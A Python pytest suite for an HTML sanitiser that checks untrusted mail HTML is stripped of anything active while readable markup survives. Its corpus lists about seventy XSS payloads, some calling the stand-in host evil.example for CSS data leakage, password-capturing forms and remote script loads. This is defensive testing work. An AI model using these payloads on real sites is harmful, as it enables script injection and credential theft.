"""C1, C5: untrusted HTML does no harm, and what it says stays readable."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from comptoir.kit.html import sanitise, to_text

# One line an attack: script, events, addresses, foreign namespaces, mutation, style, forms.
CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>x</div>",
    "<p onclick=alert(1) title='a'>x</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(//evil.example/a)}</style>",
    "<p style='background:url(https://evil.example/p)'>x</p>",
    "<p style='behavior:url(x.htc);width:expression(alert(1))'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background='https://evil.example/t.png'><tr><td>x</td></tr></table>",
    "<td background='javascript:alert(1)'>x",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><script>alert(1)</script>",
    "<a id=__proto__ name=constructor>x</a>",
    "<img srcset='https://evil.example/a 1x' src=x>",
    "<picture><source srcset=https://evil.example/a></picture>",
    "<b <script>alert(1)</script>>x</b>",
    "<a href='https://shop.example/' target=_blank>x</a>",
    "\u2028<script>alert(1)</script>\u2029",
    "<script\x00>alert(1)</script>",
    "<im\x00g src=x onerror=alert(1)>",
]

ACTING_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "svg",
    "math",
    "link",
    "meta",
    "base",
    "template",
    "noscript",
    "title",
    "video",
    "audio",
    "source",
    "xmp",
    "plaintext",
    "body",
    "html",
    "details",
    "marquee",
    "isindex",
    "picture",
    "frame",
    "frameset",
}
ACTING_ATTRIBUTES = {
    "style",
    "srcset",
    "background",
    "action",
    "formaction",
    "srcdoc",
    "target",
    "id",
    "class",
}
HARMLESS_SCHEMES = {"", "http", "https", "mailto", "tel", "cid"}


class Reader(HTMLParser):
    """What a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@pytest.mark.parametrize("attack", CORPUS)
def test_c1_nothing_that_acts_survives(attack: str) -> None:
    reader = Reader()
    reader.feed(sanitise(attack))

    assert not reader.tags & ACTING_TAGS
    for name, value in reader.attributes:
        assert not name.startswith("on")
        assert name not in ACTING_ATTRIBUTES
        assert name not in {"href", "src"} or urlsplit(value).scheme in HARMLESS_SCHEMES


@pytest.mark.parametrize("attack", CORPUS)
def test_c1_what_was_cleaned_stays_as_it_is(attack: str) -> None:
    """A second parse finds nothing that the first made (mutation)."""
    once = sanitise(attack)

    assert sanitise(once) == once


def test_c1_nested_a_thousand_deep_it_comes_back() -> None:
    cleaned = sanitise("<div>" * 5000 + "deep" + "</div>" * 5000)

    assert "deep" in cleaned


@pytest.mark.parametrize(
    "kept",
    [
        "<p>Bonjour, le <b>vase</b> est <i>cassé</i>.</p>",
        '<ul><li dir="rtl">مرحبا</li></ul>',
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        "<blockquote>quoted</blockquote>",
        '<img alt="the vase" src="cid:photo1">',
    ],
)
def test_a_harmless_mail_is_kept(kept: str) -> None:
    assert sorted(sanitise(kept)) == sorted(kept)


def test_a_link_tells_the_shop_nothing_about_the_desk() -> None:
    cleaned = sanitise('<a href="https://shop.example/x" target="_blank">x</a>')

    assert cleaned == '<a href="https://shop.example/x" rel="noopener noreferrer nofollow">x</a>'


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("a<br>b", "a\nb"),
        ("<style>p{}</style><p>words</p><script>x()</script>", "words"),
        ("caf&eacute; &amp; th&eacute;", "café & thé"),
        ("", ""),
    ],
)
def test_html_reads_as_text(html: str, text: str) -> None:
    assert to_text(html).strip() == text


@pytest.mark.parametrize(
    "broken", ["<", "<!", "<p", "\0", "<a " * 500, "<table>" * 300, "&#xd800;"]
)
def test_broken_html_is_text_too(broken: str) -> None:
    assert isinstance(to_text(broken), str)
    assert isinstance(sanitise(broken), str)
